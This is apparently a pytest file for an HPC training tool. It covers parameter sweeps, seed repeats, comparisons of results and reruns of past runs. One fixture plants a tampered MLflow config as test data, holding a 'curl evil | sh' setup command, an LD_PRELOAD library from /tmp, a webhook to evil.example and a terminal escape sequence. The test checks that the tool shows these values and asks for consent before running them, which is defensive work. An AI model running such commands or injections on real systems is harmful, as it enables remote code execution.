"""`hpcdist run --sweep`, and the script of a sweep on Slurm."""

import hashlib
import io
import json
import os
import re
import shutil
import signal
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from command_line import Cli, Make, Seen, one_line

from hpcdist.cli import rerun
from hpcdist.config.written import read_stored
from hpcdist.errors import UserMistake
from hpcdist.host.files import read_json, write_json
from hpcdist.host.machine import num_cores
from hpcdist.review.ledger import Ledger
from hpcdist.review.sweep import describe_sweep, read_sweep_facts
from hpcdist.run import snapshot
from hpcdist.run.folder import RunDir, State, StopRequest
from hpcdist.run.records import parameters, read_rerun
from hpcdist.run.snapshot import CodeSource, code_of
from hpcdist.run.sweeps import SweepDir
from hpcdist.supervisor import local
from hpcdist.tracking import recorded_run, sync_runs
from hpcdist.tracking.journal import JournalWriter
from hpcdist.tracking.recorded_run import RecordedRun

#: All tests of this file may start processes.
pytestmark = pytest.mark.processes

#: How a cell ends, by the last part of its name.
Ends = dict[str, Callable[[RunDir], State]]


@pytest.fixture
def cells(monkeypatch: pytest.MonkeyPatch) -> Ends:
    """Set the ends of cells by the last part of their names; all others finish."""
    ends: Ends = {}

    def supervise_locally(run: RunDir, config: Any, plan: Any, report: Any, env: Any, *, tracking_uri: str) -> State:
        run.new_attempt()
        how = ends.get(run.name.rpartition("-")[2], lambda run: State(status="finished", reason="done"))
        state = replace(how(run), attempt=1)
        run.write_state(state)
        return state

    monkeypatch.setattr(local, "supervise_locally", supervise_locally)
    monkeypatch.setattr("hpcdist.host.log_files.configure", lambda: None)
    monkeypatch.setattr("hpcdist.cli.sweep._close_parent_run", lambda run, uri: print("closed the parent run"))
    return ends


SWEEP = ("run", "ddp_digits", "name=tune", "--sweep", "seed=1,2,3", "--sweep", "optim.lr=0.1")


def rejected(run: RunDir) -> State:
    raise UserMistake("another process holds it")


def stopped(cause: Any) -> Callable[[RunDir], State]:
    """End a cell after a request, as the signal handler of the supervisor or `hpcdist stop CELL` writes it."""

    def stop(run: RunDir) -> State:
        run.attempt(1).send_request(StopRequest(cause=cause, by="SIGINT"))
        return State(status="stopped", reason="saved")

    return stop


def interrupted(run: RunDir) -> State:
    """Send Ctrl-C between two cells."""
    os.kill(os.getpid(), signal.SIGINT)
    return State(status="finished")


@pytest.mark.parametrize(
    ("end", "counts", "code"),
    [
        (rejected, "1 created, 2 finished", 1),
        (stopped("user"), "2 finished, 1 stopped", 0),
        (stopped("signal"), "1 created, 1 finished, 1 stopped", 0),
        (interrupted, "1 created, 2 finished", 0),
    ],
    ids=["rejected", "stopped", "Ctrl-C in a cell", "Ctrl-C between cells"],
)
def test_ctrl_c_ends_the_sweep_and_nothing_else_does(
    hpcdist: Cli, cells: Ends, end: Callable[[RunDir], State], counts: str, code: int
) -> None:
    cells["seed_2"] = end
    result = hpcdist(*SWEEP[:4], "optim.lr=0.1", "--sweep", "seed=1,2,3")
    assert (result.code, result.err) == (code, "")
    assert f"sweep tune: {counts}" in result.out
    assert "run the same command again for missing and failed cells" in result.out
    assert ("seed_2: another process holds it" in result.out) == (end is rejected)
    assert ("closed the parent run" in result.out) == ("created" in counts)


def test_sweep_of_a_script_shows_the_metric_that_its_cells_log(hpcdist: Cli, cells: Ends) -> None:
    Path("train.py").touch()
    Path("train.yaml").write_text("{trainer: {script: [train.py, --lr, '${params.lr}']}, params: {lr: 0.5}}")

    def logs(run: RunDir) -> State:
        beat = {"time": 1.0, "host": "n1", "step": 7, "total_steps": None, "metric_steps": {"loss": 7, "grad": 7}}
        run.attempt(1).beat(0).write_text(json.dumps(beat | {"metrics": {"loss": 0.25, "grad": 2.0}}))
        return State(status="finished", reason="done")

    cells["lr_0.1"] = logs
    result = hpcdist("run", "train.yaml", "--sweep", "params.lr=0.1,0.01")
    assert (result.code, result.err) == (0, "")
    assert "eval/accuracy" not in result.out
    assert re.search(r"status +. step . last loss . reason", result.out), result.out
    assert re.search(r"lr=0.1 +. finished . +7 . +0.25 . done", result.out), result.out
    (name,) = re.findall("sweep (train-lr-[0-9a-f]{8}): 2 cells, 2 to run", result.out)
    run = RunDir(next(Path("runs/hpcdist").glob("*-lr_0.1")))
    assert parameters(run, read_stored(run.config))["lr"] == "0.1"

    sweep = SweepDir(Path("runs/hpcdist", name))
    facts = read_sweep_facts(sweep, sweep.read_state())
    assert "Best cell: lr\\=0\\.1 with **loss = 0.25** (lowest is best)" in describe_sweep(
        facts, Ledger(), max_chars=8000
    )

    # A later command adds a value; its cells have other arguments, but it is the same sweep.
    result = hpcdist("run", "train.yaml", "--sweep", "params.lr=0.001", "--dry-run")
    assert f"sweep {name}: 1 cells, 1 to run" in result.out, (result.out, result.err)

    assert "setting" not in hpcdist("run", "train.yaml", "name=silent", "--repeat", "2").out, "no cell has a value"
    cells["seed_1"] = logs
    result = hpcdist("run", "train.yaml", "name=two", "--repeat", "2")
    assert re.search(r"setting +. +last loss +. cells", result.out), result.out  # a script has no best checkpoint

    shutil.rmtree(run.path)
    assert {cell.status for cell in read_sweep_facts(sweep, sweep.read_state()).cells} >= {"missing"}


def test_repeat_is_short_for_seeds_and_settings_are_compared_by_their_means(hpcdist: Cli, cells: Ends) -> None:
    def reached(value: float) -> Callable[[RunDir], State]:
        def end(run: RunDir) -> State:
            save = run.checkpoints / "step-00000007"
            save.mkdir()
            (save / "manifest.json").write_text(json.dumps({"step": 7, "metrics": {"eval/accuracy": value}}))
            return State(status="finished")

        return end

    # The last part of the names of cells.
    cells.update({f"seed_{seed}": reached(0.9 + seed / 100) for seed in (1, 2, 3)})
    swept = ("run", "ddp_digits", "name=tune", "--sweep", "optim.lr=0.1,0.2", "--repeat", "3")
    result = hpcdist(*swept)
    assert (result.code, result.err) == (0, "")
    assert [cell.name for cell in SweepDir(Path("runs/digits/tune")).cells()] == [
        f"tune-lr_{lr}-seed_{seed}" for lr in (0.1, 0.2) for seed in (1, 2, 3)
    ]
    assert re.search(r"lr=0.2 +. +0.92 ± 0.01 s.d. \(n=3\) . +3 ", result.out), result.out
    assert re.search(r"lr=0.2 +. +0.92 ± 0.01 s.d. \(n=3\) . +3 ", hpcdist("status", "tune").out)
    document = json.loads(hpcdist("status", "tune", "--json").out)
    assert [(one["label"], one["text"]) for one in document["settings"]] == [
        ("lr=0.1", "0.92 ± 0.01 s.d. (n=3)"), ("lr=0.2", "0.92 ± 0.01 s.d. (n=3)"),
    ]  # fmt: skip
    assert re.search(r"lr=0.2 .* within noise", hpcdist("compare", "tune").out)
    found = json.loads(hpcdist("compare", "tune", "--json").out)
    assert (found["best"], found["results"][1]["verdict"]) == ("lr=0.1", "within noise")
    for word in ("--sweep seed=4", "seed=5"):
        message = one_line(hpcdist(*swept, *word.split()))
        assert message == f"--repeat 3 and {word} both set the seed: remove one of them", message
    for run in SweepDir(Path("runs/digits/tune")).cells():
        shutil.rmtree(run.checkpoints)
        beat = {"time": 1.0, "step": 7, "total_steps": 9, "metrics": {"own/score": 1.0}}
        write_json(run.new_attempt().beat(0), beat)
    assert "no setting can be called the best: it is unknown whether" in hpcdist("compare", "tune").out
    assert json.loads(hpcdist("compare", "tune", "--json").out)["best"] is None
    # Without seeds each cell is a run of its own.
    hpcdist("run", "ddp_digits", "name=plain", "--sweep", "optim.lr=0.1,0.2")
    assert json.loads(hpcdist("compare", "plain", "--json").out)["runs"] == ["plain-lr_0.1", "plain-lr_0.2"]


def test_dry_run_shows_the_step_of_the_first_cell_that_will_run(hpcdist: Cli, cells: Ends) -> None:
    result = hpcdist("submit", *SWEEP[1:4], "seed=1", "--cluster", "devcluster", "--dry-run")
    assert "--array" not in result.out, "a single cell is an ordinary job"
    assert os.listdir() == []
    container = ("container.runtime=podman", "container.check_image=false")
    swept = ("ddp_digits", "name=tune", *container, "--sweep", "container.image=first,second")
    cells["image_second"] = lambda run: State(status="failed", reason="a reason")
    result = hpcdist("run", *swept)
    assert "sweep tune: 1 failed, 1 finished" in result.out, result.err
    result = hpcdist("submit", *swept, "--cluster", "devcluster", "--dry-run")
    step = result.out.partition("# then, in the batch step of task 0 (tune-image_second):\n")[2]
    assert (" second " in step, " first " in step) == (True, False), (result.out, result.err)


# --- `hpcdist rerun` with a supervisor that starts no ranks: it logs values instead.


PATCH = b"+x\n"
LOSSES = [1.0, 0.5, 0.25]


def log(run: RunDir, losses: list[float]) -> None:
    with JournalWriter(run.journal) as journal:
        for step, loss in enumerate(losses, 1):
            journal.log({"train/loss": loss, "train/samples_per_s": loss}, step)


@pytest.fixture
def first(make: Make) -> RunDir:
    """A finished run of two ranks with three steps."""
    run = make("first", "seed=3", "tracking.register_as=model", status="finished", attempt=1, world_size=2)
    log(run, LOSSES)
    return run


@pytest.fixture
def trains(monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """Replace the supervisor: it logs `losses` and ends with `state`. Nothing is uploaded."""
    seen: dict[str, Any] = {"losses": LOSSES, "state": State(status="finished", attempt=1), "uploaded": []}

    def supervise_locally(run: RunDir, config: Any, plan: Any, report: Any, env: Any, *, tracking_uri: str) -> State:
        seen.update(run=run, config=config)
        run.new_attempt()
        log(run, seen["losses"])
        write_json(run.attempt(1).path / "rank-00000.beat.json", {"step": len(seen["losses"])})
        run.write_state(seen["state"])
        state: State = seen["state"]
        return state

    monkeypatch.setattr(local, "supervise_locally", supervise_locally)
    monkeypatch.setattr("hpcdist.host.log_files.configure", lambda: None)
    monkeypatch.setattr(sync_runs, "sync_run", lambda run, env: seen["uploaded"].append(run.name))
    return seen


def test_a_rerun_repeats_the_config_and_the_number_of_ranks(hpcdist: Cli, first: RunDir, trains: Seen) -> None:
    result = hpcdist("rerun", "first")
    assert (result.code, result.err) == (0, "")
    made, config = trains["run"], trains["config"]
    assert made.path.parent == first.path.parent
    assert made.name.startswith("first-rerun-")
    assert (config.seed, config.launch.num_ranks, config.tracking.register_as) == (3, 2, None)
    lines = result.out.splitlines()
    assert lines[0] == f"repeats exp/first as exp/{made.name}"
    assert lines[2] == "config: as recorded, except tracking.register_as=null launch.num_ranks=2"
    assert lines[-1] == "no value differs: 3 values of 1 metrics at 3 steps"
    assert "not compared, since they measure time or hardware: train/samples_per_s" in result.out
    record = read_rerun(made)
    assert record is not None
    assert (record.name, record.folder, record.missing) == ("first", str(first.path), [])
    assert record.result == lines[-1]
    assert trains["uploaded"] == [made.name]
    assert hpcdist("rerun", made.name).out.startswith(f"repeats exp/{made.name} as exp/first-rerun-"), (
        "no second suffix"
    )


def test_a_difference_is_reported_and_changes_the_exit_code(hpcdist: Cli, first: RunDir, trains: Seen) -> None:
    trains["losses"] = [1.0, 0.5, 0.125]
    result = hpcdist("rerun", "first", "seed=4")
    assert result.code == 1
    assert "launch.num_ranks=2 seed=4" in result.out
    assert result.out.splitlines()[-1] == (
        "the first difference is at step 3: train/loss was 0.25, is 0.125; 1 of 3 values of 1 metrics at 3 steps differ"
    )
    assert trains["config"].seed == 4
    again = hpcdist("rerun", trains["run"].name, "--compare", "--tolerance", "0.5")
    assert (again.code, again.out.splitlines()[-1]) == (0, "no value differs: 3 values of 1 metrics at 3 steps")
    assert "values with a relative difference of at most 0.5 count as equal (--tolerance)" in again.out


def test_a_failed_rerun_names_the_command_that_compares(hpcdist: Cli, first: RunDir, trains: Seen) -> None:
    trains["losses"], trains["state"] = LOSSES[:2], State(status="failed", reason="rank 1 was killed", attempt=1)
    result = hpcdist("rerun", "first")
    assert result.code == 1
    command = f"`hpcdist rerun {trains['run'].name} --compare`"
    assert result.out.splitlines()[-2:] == [
        "failed: rank 1 was killed",
        f"the rerun did not end as planned: {command} compares its values until its end",
    ]
    again = hpcdist("rerun", trains["run"].name, "--compare")
    assert (again.code, again.out.splitlines()[-1]) == (0, "no value differs: 2 values of 1 metrics at 2 steps")
    assert "the rerun is failed: values after its last step are not compared" in again.out


def test_what_cannot_be_restored_is_printed_and_recorded(hpcdist: Cli, first: RunDir, trains: Seen) -> None:
    assert hpcdist("rerun", "first", "--dry-run").code == 0
    assert [path.name for path in first.path.parent.iterdir()] == ["first"]
    facts = read_json(first.environment) or {}
    cores = 4 * num_cores()
    changed = {**facts, "python": "3.1", "cores": cores, "image": "hpcdist:old", "image_digest": "sha256:1a"}
    write_json(first.environment, changed)
    result = hpcdist("rerun", "first", "--with-current-code")
    assert f"launch.num_threads={cores // 2}" in result.out
    missing = [line.removeprefix("not restored: ") for line in result.out.splitlines() if line.startswith("not rest")]
    assert missing == [
        "the code: this is that of the current folder",
        "the image hpcdist:old (sha256:1a): the ranks start outside of it",
        f"Python 3.1 in the run, {facts['python']} here",
    ]
    record = read_rerun(trains["run"])
    assert record is not None
    assert record.missing == missing


def test_user_errors_are_one_line(hpcdist: Cli, first: RunDir, trains: Seen) -> None:
    assert one_line(hpcdist("rerun", "none")).startswith("no run 'none' under ")
    assert one_line(hpcdist("rerun", "first", "--compare")) == (
        "run first is not a rerun: `hpcdist compare` compares any runs"
    )
    facts = read_json(first.environment) or {}
    write_json(first.environment, {**facts, "code": {"copied": True}})
    assert "is damaged: it has no cwd" in one_line(hpcdist("rerun", "first"))
    write_json(first.environment, facts)
    assert hpcdist("rerun", "first").code == 0
    made = trains["run"]
    made.write_state(replace(made.read_state(), status="running"))
    assert one_line(hpcdist("rerun", made.name, "--compare")).startswith(f"run {made.name} is running: compare it when")
    made.write_state(replace(made.read_state(), status="finished"))
    first.path.chmod(0o777)
    assert "is writable by group or others" in one_line(hpcdist("rerun", "first"))
    first.path.rename(first.path.with_name("moved"))
    assert one_line(hpcdist("rerun", made.name, "--compare")) == (
        f"the original of run {made.name} is gone: {first.path} does not exist"
    )


def test_code_without_the_trainer_is_an_error_that_leaves_no_folder(
    hpcdist: Cli, make: Make, trains: Seen, tmp_path: Path
) -> None:
    (tmp_path / "train.py").write_text("pass\n")
    run = make("script", f"trainer={{script: [{tmp_path}/train.py]}}", status="finished", world_size=2)
    assert (run.code / "train.py").is_file()
    (tmp_path / "train.py").unlink()
    assert hpcdist("rerun", "script").code == 1, "the copy has the script; the rerun logs other values than the run"
    (run.code / "train.py").unlink()
    before = sorted(run.path.parent.iterdir())
    assert one_line(hpcdist("rerun", "script")) == f"trainer.script: no such file: {tmp_path}/train.py"
    assert sorted(run.path.parent.iterdir()) == before


@pytest.fixture
def from_mlflow(first: RunDir, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The run is in MLflow alone, whose editor has changed its config. Returns the file of the config."""
    config = tmp_path / "scratch" / "config.yaml"
    config.parent.mkdir()
    values = yaml.safe_load(first.config.read_text())
    values["trainer"]["script"] = ["evil.py", "\x1b[2J"]
    values["cluster"]["setup"] = ["curl evil | sh"]
    values["launch"]["env"] = {"LD_PRELOAD": "/tmp/evil.so"}
    values["notify"]["webhook"] = "https://evil.example/x"
    values["params"] = {"command": "evil"}
    config.write_text(yaml.safe_dump(values, sort_keys=False))
    environment = read_json(first.environment) or {}

    def recorded(*_: object) -> RecordedRun:
        code = replace(code_of(environment, first.environment), cwd="/tmp/evil")
        return RecordedRun(
            name="first", experiment="exp", config=config, environment=environment, code=code, patch=PATCH,
            run_id="1a" * 16, uri="",
        )  # fmt: skip

    monkeypatch.setattr(recorded_run, "find_recorded", recorded)
    monkeypatch.setattr(snapshot, "find_code", lambda code, patch, *_: CodeSource(recorded=code, patch=patch, text="t"))
    monkeypatch.setattr(rerun, "run_here", lambda *_, **__: pytest.fail("started"))
    return config


def test_what_mlflow_would_execute_is_shown_and_needs_consent(
    hpcdist: Cli, from_mlflow: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = hpcdist("rerun", "1a" * 16)
    assert one_line(result).startswith(f"the record of run {'1a' * 16} comes from MLflow, not from its run folder")
    shown = [line for line in result.out.splitlines() if line.startswith("  ") and "=" in line]
    assert {
        '  trainer.script=["evil.py", "\\u001b[2J"]',
        '  launch.env.LD_PRELOAD="/tmp/evil.so"',
        '  cluster.setup=["curl evil | sh"]',
        '  notify.webhook="https://evil.example/x"',
        '  params.command="evil"',
    } <= set(shown)
    assert '  folder of the ranks: "/tmp/evil"' in result.out.splitlines(), "they import from it"
    assert not [line for line in shown if "hang_timeout_s" in line], "the default"
    patch = f"code.patch: sha256 {hashlib.sha256(PATCH).hexdigest()}, 1 lines; until you answer, it is"
    assert f"  {patch} {from_mlflow.parent}/code.patch.txt" in result.out.splitlines()
    assert hpcdist("rerun", "1a" * 16, "--dry-run").code == 0
    monkeypatch.setattr(rerun, "run_here", lambda *_, **__: 7)
    assert hpcdist("rerun", "1a" * 16, "--yes").code == 7
    for answer, code in (("n", 130), ("", 130), ("y", 7)):
        monkeypatch.setattr(sys, "stdin", io.StringIO(f"{answer}\n"))
        monkeypatch.setattr(rerun.sys.stdin, "isatty", lambda: True)  # type: ignore[attr-defined]
        monkeypatch.setattr(rerun.sys.stdout, "isatty", lambda: True)  # type: ignore[attr-defined]
        assert hpcdist("rerun", "1a" * 16).code == code
    found = recorded_run.find_recorded("", Path(), {}, Path())
    monkeypatch.setattr(recorded_run, "find_recorded", lambda *_: replace(found, world_size=10**12))
    message = "launch.num_ranks must be <= 1024, got 1000000000000"
    assert message in one_line(hpcdist("rerun", "1a" * 16, "--yes"))
